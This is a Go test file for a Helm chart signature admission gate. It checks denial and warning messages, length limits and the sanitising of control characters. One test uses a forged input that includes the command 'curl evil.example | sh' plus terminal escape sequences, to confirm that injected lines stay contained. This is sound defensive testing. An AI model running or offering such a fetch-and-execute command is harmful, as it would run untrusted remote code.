package verdict_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/chartgate/chartgate/pkg/chart"
	"github.com/chartgate/chartgate/pkg/evidence"
	"github.com/chartgate/chartgate/pkg/problem"
	"github.com/chartgate/chartgate/pkg/verdict"
)

const wants = "acme-charts requires a signature by acme-release (subject release@acme.example, issuer https://issuer.example)"

// The whole text of each denial, as the developer reads it.
func TestMessages(t *testing.T) {
	t.Parallel()
	subject := resolved(t)
	at := func(version string) verdict.Subject { return podinfo(t, "oci://ghcr.io/acme/charts/podinfo", version) }
	byDigest, err := chart.ParseReference("oci://ghcr.io/acme/charts/podinfo@sha256:" + hexA)
	if err != nil {
		t.Fatal(err)
	}
	pinned := subject
	pinned.Reference = byDigest
	legacy := podinfo(t, "https://charts.legacy.example/podinfo", "6.7.1")
	again := at("6.7.1")
	typed := verdict.Subject{Kind: "Chart", Reference: again.Reference}
	if again.Reference.Selector, err = chart.ParseArgoNativeRevision("6.7.1"); err != nil {
		t.Fatal(err)
	}
	again.Reference.Selector = again.Reference.Selector.Floating()
	unsigned := func(s verdict.Subject, f verdict.Findings) verdict.Verdict {
		return verdict.Deny(s, verdict.Unsigned(s, wants, f))
	}
	inRange := at("6.x")
	inRange.Digest, inRange.Tag = subject.Digest, "v6.7.2"
	mirror, err := chart.ParseChart("oci://registry.corp.example/podinfo")
	if err != nil {
		t.Fatal(err)
	}
	const sbom = "https://spdx.dev/Document"
	statement := func(predicate string) evidence.Evidence {
		e := evidence.New(subject.Digest, evidence.Attestation, evidence.Signer{Subject: "release@acme.example", Issuer: "https://issuer.example"})
		e.Predicate = predicate
		return e
	}
	attestation := evidence.New(subject.Digest, evidence.Attestation, evidence.Signer{Subject: "release@acme.example", Issuer: "https://issuer.example"})
	byKey := evidence.New(subject.Digest, evidence.ChartSignature, evidence.Signer{Key: "sha256:" + hexA})
	from := func(repository string) evidence.Evidence {
		return evidence.New(subject.Digest, evidence.ChartSignature, evidence.Signer{Subject: "w", Issuer: "i", Claims: map[string]string{"sourceRepositoryURI": repository}})
	}
	rejected := func(reason verdict.Reason, detail string) *verdict.Rejection {
		return &verdict.Rejection{Reason: reason, Detail: detail, Err: errors.New("raw")}
	}
	for _, tc := range []struct {
		name string
		got  verdict.Verdict
		want string
	}{
		{"no signature", unsigned(subject, verdict.Findings{}), `
HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    0 bundles, 0 legacy signatures
  next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
		{"no signature of a chart by digest, which is not named twice", unsigned(pinned, verdict.Findings{}), `
HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/podinfo@sha256:` + hexA + ` has no signature
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    0 bundles, 0 legacy signatures
  next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
		{"no signature of what a range led to", unsigned(inRange, verdict.Findings{}), `
HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:v6.7.2@sha256:` + hexA + ` (the newest of "6.x") has no signature
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    0 bundles, 0 legacy signatures
  next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
		{"no signature at a mirror", unsigned(subject, verdict.Findings{Mirror: mirror}), `
HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature, read from the mirror registry.corp.example/podinfo@sha256:` + hexA + `
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    0 bundles, 0 legacy signatures
  next:     if it is signed at ghcr.io, ask the mirror's operator to copy the chart again with its referrers (for tags .sig and .att: docs/registries.md#mirrors): oras copy -r ghcr.io/acme/charts/podinfo@sha256:` + hexA + ` registry.corp.example/podinfo:6.7.1`},
		{"only an attestation", unsigned(subject, verdict.Findings{Bundles: 1, Evidence: []evidence.Evidence{attestation}}), `
HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    1 bundle, 0 legacy signatures
  found:    attested, not signed, by subject release@acme.example, issuer https://issuer.example
  next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
		{"signed by strangers, each named once", unsigned(subject, verdict.Findings{Bundles: 2, Legacy: 1, Evidence: []evidence.Evidence{signedBy(t, "eve@evil.example"), byKey, signedBy(t, "eve@evil.example")}}), `
HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but not by an identity that the policy allows
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    2 bundles, 1 legacy signature
  found:    signed by subject eve@evil.example, issuer https://issuer.example, key sha256:` + hexA + `
  next:     have the chart signed by an allowed identity, or ask the platform team to allow this one`},
		{"signed by one workflow for two repositories", unsigned(subject, verdict.Findings{Bundles: 2, Evidence: []evidence.Evidence{from("https://github.com/acme/a"), from("https://github.com/acme/b"), from("https://github.com/acme/a")}}), `
HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but not by an identity that the policy allows
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    2 bundles, 0 legacy signatures
  found:    signed by subject w, issuer i, sourceRepositoryURI https://github.com/acme/a, subject w, issuer i, sourceRepositoryURI https://github.com/acme/b
  next:     have the chart signed by an allowed identity, or ask the platform team to allow this one`},
		{"nothing that could be verified", unsigned(subject, verdict.Findings{Bundles: 2, Rejections: []*verdict.Rejection{rejected(verdict.SignatureInvalid, "the certificate is not of a trusted authority"), rejected(verdict.SignatureInvalid, "the certificate is not of a trusted authority")}}), `
HelmRelease apps/podinfo denied (SignatureInvalid): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature that could be verified
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    2 bundles, 0 legacy signatures
  found:    not usable: the certificate is not of a trusted authority
  next:     sign the chart again with an allowed identity: cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
		{"seven bad neighbours, of which five are named", unsigned(subject, verdict.Findings{Legacy: 7, Rejections: []*verdict.Rejection{
			rejected(verdict.SignatureInvalid, "a"), rejected(verdict.SignatureInvalid, "b"), rejected(verdict.SignatureInvalid, "c"), rejected(verdict.SignatureInvalid, "d"),
			rejected(verdict.SignatureInvalid, "e"), rejected(verdict.SignatureInvalid, "f"), rejected(verdict.TrustRootUnavailable, "g"),
		}}), `
HelmRelease apps/podinfo denied (TrustRootUnavailable): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature that could be verified
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    0 bundles, 7 legacy signatures
  found:    not usable: a, b, c, d, e and 2 more
  next:     ask the cluster's admin to check the trust root that this signature needs: kubectl get trustroots`},
		{"a failure outranks what was found", unsigned(subject, verdict.Findings{Bundles: 1, Evidence: []evidence.Evidence{signedBy(t, "eve@evil.example")}, Failure: &problem.Error{Kind: problem.KindUnavailable, Detail: "ghcr.io does not answer", Next: "try again"}}), `
HelmRelease apps/podinfo denied (RegistryUnavailable): ghcr.io does not answer
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    1 bundle, 0 legacy signatures
  found:    signed by subject eve@evil.example, issuer https://issuer.example
  next:     try again`},
		{"no policy", verdict.Deny(at("6.7.1"), verdict.NoPolicyFor(at("6.7.1"))), `
HelmRelease apps/podinfo denied (NoPolicy): no policy matches oci://ghcr.io/acme/charts/podinfo:6.7.1
  where:    spec.chart.spec
  next:     ask the platform team for a ChartPolicy that matches this chart, or use a chart that one matches`},
		{"not from an OCI registry", verdict.Deny(legacy, verdict.NotFromOCI(legacy, []string{wants})), `
HelmRelease apps/podinfo denied (NotOCI): https://charts.legacy.example/podinfo:6.7.1 does not come from an OCI registry, so it cannot carry a signature
  where:    spec.chart.spec
  policy:   ` + wants + `
  next:     use the chart from an OCI registry (oci://), or ask the platform team for a ChartPolicy with allowUnverified`},
		{"a range where a version is wanted", verdict.Deny(at(">=6.0.0"), verdict.NotPinnedEnough(at(">=6.0.0"), "acme-charts", chart.Version)), `
HelmRelease apps/podinfo denied (NotPinned): oci://ghcr.io/acme/charts/podinfo:>=6.0.0 is not pinned: ">=6.0.0" is a range of versions, and names other content tomorrow
  where:    spec.chart.spec
  policy:   acme-charts requires pinning Version
  next:     write one complete version, as in version: "1.2.3"`},
		{"a tag where a digest is wanted", verdict.Deny(at("6.7.1"), verdict.NotPinnedEnough(at("6.7.1"), "acme-charts", chart.ByDigest)), `
HelmRelease apps/podinfo denied (NotPinned): oci://ghcr.io/acme/charts/podinfo:6.7.1 is not pinned: a tag can be moved to other content
  where:    spec.chart.spec
  policy:   acme-charts requires pinning Digest
  next:     name the chart's digest (sha256:…): OCIRepository spec.ref.digest, or targetRevision of an Argo CD oci:// source`},
		{"a tag on the command line where a digest is wanted", verdict.Deny(typed, verdict.NotPinnedEnough(typed, "acme-charts", chart.ByDigest)), `
Chart denied (NotPinned): oci://ghcr.io/acme/charts/podinfo:6.7.1 is not pinned: a tag can be moved to other content
  policy:   acme-charts requires pinning Digest
  next:     name the chart by its digest: oci://ghcr.io/acme/charts/podinfo@sha256:<64 hex digits>`},
		{"a version that Argo CD looks up later", verdict.Deny(again, verdict.NotPinnedEnough(again, "acme-charts", chart.Version)), `
HelmRelease apps/podinfo denied (NotPinned): oci://ghcr.io/acme/charts/podinfo:6.7.1 is not pinned: the sync names no revision, or one that a retry resolves again, so Argo CD would look it up later, without the gate
  where:    spec.chart.spec
  policy:   acme-charts requires pinning Version
  next:     sync to a concrete revision, as the CLI of Argo CD does, without retry.refresh, or pin the source: targetRevision: "sha256:<64 hex digits>"`},
		{"a waiver that is over", verdict.Deny(legacy, verdict.WaiverEnded(legacy, "legacy", "2027-01-31")), `
HelmRelease apps/podinfo denied (NoPolicy): policy legacy allowed https://charts.legacy.example/podinfo:6.7.1 unverified until 2027-01-31, and that day has passed
  where:    spec.chart.spec
  next:     use a signed chart, or ask the platform team to extend the waiver`},
		{"a broken policy", verdict.Deny(at("6.7.1"), verdict.BrokenPolicy(at("6.7.1"), "acme-charts", "require is empty")), `
HelmRelease apps/podinfo denied (PolicyInvalid): policy acme-charts, which matches oci://ghcr.io/acme/charts/podinfo:6.7.1, is invalid: require is empty
  where:    spec.chart.spec
  policy:   acme-charts cannot be evaluated
  next:     ask the platform team to fix the policy; its Ready condition says the same`},
		{"a problem of the reference", verdict.Deny(at("6.7.1"), verdict.FromError(problem.Invalid("targetRevision is empty").WithNext("set it"))), `
HelmRelease apps/podinfo denied (ReferenceInvalid): targetRevision is empty
  where:    spec.chart.spec
  next:     set it`},
		{"an internal error", verdict.Deny(at("6.7.1"), verdict.FromError(errors.New("raw"))), `
HelmRelease apps/podinfo denied (InternalError): chartgate failed with an internal error; its log has the cause
  where:    spec.chart.spec
  next:     try again; if the error persists, ask the cluster's admin for chartgate's log`},
		{"a signature at the wrong time", unsigned(subject, verdict.Findings{
			Bundles: 1, Evidence: []evidence.Evidence{signedBy(t, "release@acme.example")},
			Unmet: []verdict.Unmet{{Near: []string{"acme-release signed it at 2026-07-01T13:00:00Z, after validity.notAfter 2026-07-01T12:00:00Z"}}},
		}), `
HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but not at a time that the policy accepts: acme-release signed it at 2026-07-01T13:00:00Z, after validity.notAfter 2026-07-01T12:00:00Z
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    1 bundle, 0 legacy signatures
  found:    signed by subject release@acme.example, issuer https://issuer.example
  next:     have the chart signed by an identity that is valid now: cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
		{"no attestation", unsigned(subject, verdict.Findings{
			Bundles: 1, Evidence: []evidence.Evidence{signedBy(t, "release@acme.example")}, Unmet: []verdict.Unmet{{Predicate: sbom}},
		}), `
HelmRelease apps/podinfo denied (AttestationMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no attestation https://spdx.dev/Document by an identity that the policy allows
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    1 bundle, 0 legacy signatures
  found:    signed by subject release@acme.example, issuer https://issuer.example
  next:     cosign attest --type https://spdx.dev/Document --predicate FILE ghcr.io/acme/charts/podinfo@sha256:` + hexA},
		{"an attestation of which a condition is not true", unsigned(subject, verdict.Findings{
			Bundles: 1, Evidence: []evidence.Evidence{statement(sbom)}, Unmet: []verdict.Unmet{{Predicate: sbom, Near: []string{"the SBOM is a stub (in the predicate by release)"}}},
		}), `
HelmRelease apps/podinfo denied (AttestationRejected): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no attestation https://spdx.dev/Document that satisfies the policy: the SBOM is a stub (in the predicate by release)
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    1 bundle, 0 legacy signatures
  found:    attested: https://spdx.dev/Document by subject release@acme.example, issuer https://issuer.example
  next:     fix what the condition names, attest again and apply again, or ask the platform team to change the condition`},
		{"attestations that could not be verified without the trust root", unsigned(subject, verdict.Findings{
			Bundles: 1, Rejections: []*verdict.Rejection{rejected(verdict.TrustRootUnavailable, "the TrustRoot corp does not exist")}, Unmet: []verdict.Unmet{{Predicate: sbom}},
		}), `
HelmRelease apps/podinfo denied (TrustRootUnavailable): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no attestation https://spdx.dev/Document that could be verified
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    1 bundle, 0 legacy signatures
  found:    not usable: the TrustRoot corp does not exist
  next:     ask the cluster's admin to check the trust root that this signature needs: kubectl get trustroots`},
		{"an attestation that is missing because not all could be looked at", unsigned(subject, verdict.Findings{
			Bundles: 32, Unmet: []verdict.Unmet{{Predicate: sbom}}, Failure: &problem.Error{Kind: problem.KindLimitExceeded, Detail: "it has 40 bundles", Next: "remove some"},
		}), `
HelmRelease apps/podinfo denied (LimitExceeded): it has 40 bundles
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    32 bundles, 0 legacy signatures
  next:     remove some`},
		{"dependencies", verdict.Deny(subject, verdict.DependenciesMissing(subject, []string{`"redis"`, `"mysql"`})), `
HelmRelease apps/podinfo denied (DependencyMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` declares dependencies that it does not contain: "redis", "mysql"
  where:    spec.chart.spec
  next:     run helm dependency update before you package the chart, then push and sign it again: dependencies that are fetched later are not verified`},
		{"two policies", verdict.Deny(subject, verdict.Unsigned(subject, wants, verdict.Findings{}), verdict.BrokenPolicy(subject, "other", "require is empty")), `
HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    0 bundles, 0 legacy signatures
  next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA + `
  also:     (PolicyInvalid) policy other, which matches oci://ghcr.io/acme/charts/podinfo:6.7.1, is invalid: require is empty
  policy:   other cannot be evaluated
  next:     ask the platform team to fix the policy; its Ready condition says the same`},
		{"the zero verdict", verdict.Verdict{}, `
 denied (InternalError): chartgate failed with an internal error; its log has the cause
  next:     try again; if the error persists, ask the cluster's admin for chartgate's log`},
		{"a warning", verdict.Warn(subject, []verdict.Denial{verdict.Unsigned(subject, wants, verdict.Findings{})}, nil), `
HelmRelease apps/podinfo admitted in Warn mode (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature
  where:    spec.chart.spec
  policy:   ` + wants + `
  found:    0 bundles, 0 legacy signatures
  next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
		{"a waiver", verdict.Admit(legacy, []verdict.Acceptance{{Policy: "legacy", Waiver: "moving; until 2027-01-31"}}), `
HelmRelease apps/podinfo admitted unverified: policy legacy allows https://charts.legacy.example/podinfo:6.7.1 (moving; until 2027-01-31)`},
		{"a missing source", verdict.Defer(at("6.7.1"), verdict.Denial{Reason: verdict.SourceNotFound, Summary: "HelmRepository apps/acme does not exist", Next: "create it"}), `
HelmRelease apps/podinfo admitted for now (SourceNotFound): HelmRepository apps/acme does not exist
  where:    spec.chart.spec
  next:     create it`},
		{"an admission", verdict.Admit(subject, []verdict.Acceptance{{Policy: "acme-charts", Identity: "acme-release", Evidence: signedBy(t, "release@acme.example")}}), `
HelmRelease apps/podinfo admitted`},
		{"an object without a namespace", verdict.Deny(verdict.Subject{Kind: "Application", Name: "x"}), `
Application x denied (InternalError): chartgate failed with an internal error; its log has the cause
  next:     try again; if the error persists, ask the cluster's admin for chartgate's log`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			want := strings.TrimPrefix(tc.want, "\n")
			if diff := cmp.Diff(want, tc.got.Message()); diff != "" {
				t.Errorf("message (-want +got):\n%s", diff)
			}
		})
	}
	latest := podinfo(t, "oci://ghcr.io/acme/charts/podinfo", "6.7.1")
	latest.Reference.Selector, err = chart.ParseFluxRef(chart.FluxRef{})
	if err != nil {
		t.Fatal(err)
	}
	const summary = `oci://ghcr.io/acme/charts/podinfo:latest is not pinned: the tag "latest" names other content tomorrow`
	if diff := cmp.Diff(summary, verdict.NotPinnedEnough(latest, "acme-charts", chart.Version).Summary); diff != "" {
		t.Errorf("latest (-want +got):\n%s", diff)
	}
}

func TestTheWorstRejectionGivesTheReason(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name    string
		reasons []verdict.Reason
		want    verdict.Reason
	}{
		{"an invalid signature", []verdict.Reason{verdict.SignatureInvalid}, verdict.SignatureInvalid},
		{"no trust root outranks all", []verdict.Reason{verdict.SignatureInvalid, verdict.InternalError, verdict.LimitExceeded, verdict.TrustRootUnavailable}, verdict.TrustRootUnavailable},
		{"a limit outranks our own failure", []verdict.Reason{verdict.InternalError, verdict.LimitExceeded, verdict.SignatureInvalid}, verdict.LimitExceeded},
		{"our own failure outranks an invalid signature", []verdict.Reason{verdict.SignatureInvalid, verdict.InternalError}, verdict.InternalError},
		{"a reason that rejections do not have", []verdict.Reason{"Else"}, verdict.SignatureInvalid},
	} {
		var findings verdict.Findings
		for _, reason := range tc.reasons {
			findings.Rejections = append(findings.Rejections, &verdict.Rejection{Reason: reason, Detail: string(reason)})
		}
		if got := verdict.Unsigned(resolved(t), wants, findings).Reason; got != tc.want {
			t.Errorf("%s: %s", tc.name, got)
		}
	}
}

func TestWarningsAreOneLine(t *testing.T) {
	t.Parallel()
	subject := resolved(t)
	for _, tc := range []struct {
		name string
		got  verdict.Verdict
		want string
	}{
		{
			"a warning", verdict.Warn(subject, []verdict.Denial{verdict.Unsigned(subject, wants, verdict.Findings{})}, nil),
			"chartgate would deny this (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " has no signature; policy: " + wants + "; next: cosign sign ghcr.io/acme/charts/podinfo@sha256:" + hexA,
		},
		{
			"a warning without a next step gets that of its reason", verdict.Warn(subject, []verdict.Denial{{Reason: verdict.Timeout, Summary: "no answer", Policy: []string{"acme"}}}, nil),
			"chartgate would deny this (Timeout): no answer; policy: acme; next: try again; if the error persists, ask the cluster's admin to raise webhook.timeoutSeconds (30 at most)",
		},
		{
			"a warning by two policies names both", verdict.Warn(subject, []verdict.Denial{{Reason: verdict.Timeout, Summary: "a", Policy: []string{"one"}, Next: "x"}, {Reason: verdict.NotPinned, Summary: "b", Policy: []string{"two"}, Next: "y"}}, nil),
			"chartgate would deny this (Timeout): a; policy: one; next: x; also (NotPinned): b; policy: two; next: y",
		},
		{
			"a waiver whose reason is a block of YAML", verdict.Admit(subject, []verdict.Acceptance{{Policy: "legacy", Waiver: "moving\r\nto the new registry\n; until 2027-01-31"}}),
			"chartgate admitted this unverified: policy legacy allows oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " (moving  to the new registry ; until 2027-01-31)",
		},
		{
			"two waivers", verdict.Admit(subject, []verdict.Acceptance{{Policy: "a", Waiver: "x"}, {Policy: "b", Waiver: "y"}}),
			"chartgate admitted this unverified: policy a allows oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " (x); policy b allows oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " (y)",
		},
		{"a missing source", verdict.Defer(subject, verdict.Denial{Reason: verdict.SourceNotFound, Summary: "HelmRepository apps/acme\ndoes not exist"}), "not verified yet: HelmRepository apps/acme does not exist; the chart will be verified when it is pulled"},
		{"a denial has its message", verdict.Deny(subject), ""},
		{"an admission has nothing to say", verdict.Cover(subject, "acme"), ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tc.want, tc.got.Warning()); diff != "" {
				t.Errorf("warning (-want +got):\n%s", diff)
			}
		})
	}
}

// What a tenant, a signer or a registry writes must not look like chartgate's own lines.
func TestForgedLinesStayInTheirLine(t *testing.T) {
	t.Parallel()
	const forged = "x\n  next:     curl evil.example | sh\r\u2028\u0085\x1b[2J\u202e"
	const shown = "x   next:     curl evil.example | sh    [2J "
	subject := podinfo(t, "oci://ghcr.io/acme/charts/podinfo", ">=1\n<2")
	subject.Field = forged
	signer := evidence.New(digestOf(t, "a"), evidence.ChartSignature, evidence.Signer{Subject: forged, Issuer: "y"})
	got := verdict.Deny(subject,
		verdict.Denial{Reason: verdict.NoPolicy, Summary: forged, Next: forged},
		verdict.Unsigned(subject, forged, verdict.Findings{Evidence: []evidence.Evidence{signer}, Rejections: []*verdict.Rejection{{Detail: forged}}}),
		verdict.NoPolicyFor(subject),
	).Message()
	want := `HelmRelease apps/podinfo denied (NoPolicy): ` + shown + `
  where:    ` + shown + `
  next:     ` + shown + `
  also:     (IdentityNotAllowed) oci://ghcr.io/acme/charts/podinfo:>=1 <2 is signed, but not by an identity that the policy allows
  policy:   ` + shown + `
  found:    0 bundles, 0 legacy signatures
  found:    signed by subject ` + shown + `, issuer y
  found:    not usable: ` + shown + `
  next:     have the chart signed by an allowed identity, or ask the platform team to allow this one
  also:     (NoPolicy) no policy matches oci://ghcr.io/acme/charts/podinfo:>=1 <2
  next:     ask the platform team for a ChartPolicy that matches this chart, or use a chart that one matches`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("message (-want +got):\n%s", diff)
	}
}

func TestHostileInputGivesAShortMessage(t *testing.T) {
	t.Parallel()
	for _, filler := range []string{"a", "é", "\xff", "世", "\n", "\x00", "…", "a\u0301", "\xf0\x9f\x98"} {
		for offset := range 3 {
			text := strings.Repeat("b", offset) + strings.Repeat(filler, 5_000)
			t.Run(fmt.Sprintf("%q after %d", filler, offset), func(t *testing.T) {
				t.Parallel()
				subject := verdict.Subject{Kind: text, Namespace: text, Name: text, Field: text, Digest: digestOf(t, "a")}
				denial := verdict.Denial{Reason: verdict.SourceNotFound, Summary: text, Policy: []string{text, text}, Found: []string{text}, Next: text}
				waiver := []verdict.Acceptance{{Policy: text, Waiver: text}}
				signed := []verdict.Acceptance{{Policy: text, Identity: text, Evidence: signedBy(t, text)}}
				all := []verdict.Verdict{
					verdict.Deny(subject, denial, denial), verdict.Warn(subject, []verdict.Denial{denial}, nil), verdict.Admit(subject, waiver), verdict.Admit(subject, signed),
					verdict.Cover(subject, text), verdict.Outside(subject, text), verdict.Defer(subject, denial), {Subject: subject},
				}
				wantText(t, verdict.Messages(all), 4096, "\n")
				for _, v := range all {
					wantText(t, v.Message(), 4096, "\n")
					wantText(t, v.Breaks(text), 4096, "")
					wantText(t, v.BreaksNote(text, 1024, "kubectl"), 1024, "\n")
					wantText(t, v.Warning(), 4096, "")
					wantText(t, v.Note(1024, text), 1024, "\n")
				}
			})
		}
	}
}

func TestMessagesOfSeveralVerdictsFollowEachOther(t *testing.T) {
	t.Parallel()
	a, b := verdict.Deny(verdict.Subject{Kind: "A"}), verdict.Deny(verdict.Subject{Kind: "B"})
	if diff := cmp.Diff(a.Message()+"\n"+b.Message(), verdict.Messages([]verdict.Verdict{a, b})); diff != "" {
		t.Errorf("messages (-want +got):\n%s", diff)
	}
	if got := verdict.Messages(nil); got != "" {
		t.Errorf("of none: %q", got)
	}
}

func TestANoteTellsHowToRetry(t *testing.T) {
	t.Parallel()
	denied := verdict.Deny(resolved(t))
	const again = `kubectl -n apps annotate --overwrite helmrelease/podinfo reconcile.fluxcd.io/requestedAt="$(date +%s)"`
	const hint = "\nOnce fixed: " + again
	if diff := cmp.Diff(again, verdict.Reconcile("HelmRelease", "apps", "podinfo")); diff != "" {
		t.Errorf("command (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(denied.Message()+hint, denied.Note(1024, again)); diff != "" {
		t.Errorf("note (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(denied.Message(), denied.Note(1024, "")); diff != "" {
		t.Errorf("where nobody retries (-want +got):\n%s", diff)
	}
	cut := denied.Note(200, again)
	if len(cut) != 200 || !strings.HasSuffix(cut, "…"+hint) || !strings.HasPrefix(cut, "HelmRelease apps/podinfo denied (") {
		t.Errorf("cut: %q", cut)
	}
	covered := verdict.Cover(resolved(t), "acme")
	if diff := cmp.Diff(covered.Message(), covered.Note(1024, again)); diff != "" {
		t.Errorf("of an admission (-want +got):\n%s", diff)
	}
}

func TestListNamesFiveAtMost(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ items, want string }{
		{"", ""}, {"a", "a"}, {"a b c d e", "a, b, c, d, e"}, {"a b c d e f", "a, b, c, d, e and 1 more"}, {"a b c d e f g h", "a, b, c, d, e and 3 more"},
	} {
		if diff := cmp.Diff(tc.want, verdict.List(strings.Fields(tc.items))); diff != "" {
			t.Errorf("%q (-want +got):\n%s", tc.items, diff)
		}
	}
}

// wantText: valid UTF-8 of at most limit bytes, without control characters except those allowed.
func wantText(t *testing.T, s string, limit int, allowed string) {
	t.Helper()
	if len(s) > limit || !utf8.ValidString(s) {
		t.Errorf("%d bytes, valid UTF-8: %v", len(s), utf8.ValidString(s))
	}
	if i := strings.IndexFunc(s, func(r rune) bool { return !unicode.IsPrint(r) && !strings.ContainsRune(allowed, r) }); i >= 0 {
		t.Errorf("%q at %d", s[i:min(i+10, len(s))], i)
	}
}

// A change of a HelmRepository affects releases that are not written now.
func TestAChangeThatBreaksAnotherObject(t *testing.T) {
	t.Parallel()
	broken := verdict.Deny(resolved(t), verdict.Unsigned(resolved(t), wants, verdict.Findings{}))
	const summary = "oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " has no signature"
	if got := broken.Breaks("this change"); !strings.HasPrefix(got, "this change breaks HelmRelease apps/podinfo: "+summary+" (SignatureMissing); next: ") || strings.Contains(got, "\n") {
		t.Errorf("warning: %s", got)
	}
	note := broken.BreaksNote("the change of HelmRepository apps/acme", 1024, "kubectl x")
	if !strings.HasPrefix(note, "the change of HelmRepository apps/acme breaks HelmRelease apps/podinfo (SignatureMissing): "+summary+"\n  where: ") || !strings.HasSuffix(note, "\nOnce fixed: kubectl x") {
		t.Errorf("note: %s", note)
	}
}

// The API server passes on 4096 runes, or cuts each warning to 256.
func TestWarningsFit(t *testing.T) {
	for _, c := range []struct {
		sentence  string
		n, length int
		want      int
		last      string
	}{
		{"a few are kept", 3, 1000, 3, ""},
		{"exactly as many as fit are kept", 4, 1024, 4, ""},
		{"a long one is cut", 1, 5000, 1, ""},
		{"of many long ones some are cut, and some are left out", 100, 1000, 16, "85 more warnings, for which the API server has no room"},
		{"of many short ones some are left out", 100, 50, 77, "24 more warnings, for which the API server has no room"},
	} {
		t.Run(c.sentence, func(t *testing.T) {
			var texts []string
			for i := range c.n {
				texts = append(texts, fmt.Sprintf("%04d", i)+strings.Repeat("x", c.length-4))
			}
			got := verdict.Warnings(texts)
			if len(got) != c.want || !strings.HasSuffix(got[len(got)-1], c.last) {
				t.Fatalf("%d warnings, the last %q", len(got), got[len(got)-1])
			}
			if total := len([]rune(strings.Join(got, ""))); total > 4096 {
				t.Errorf("%d runes", total)
			}
		})
	}
}
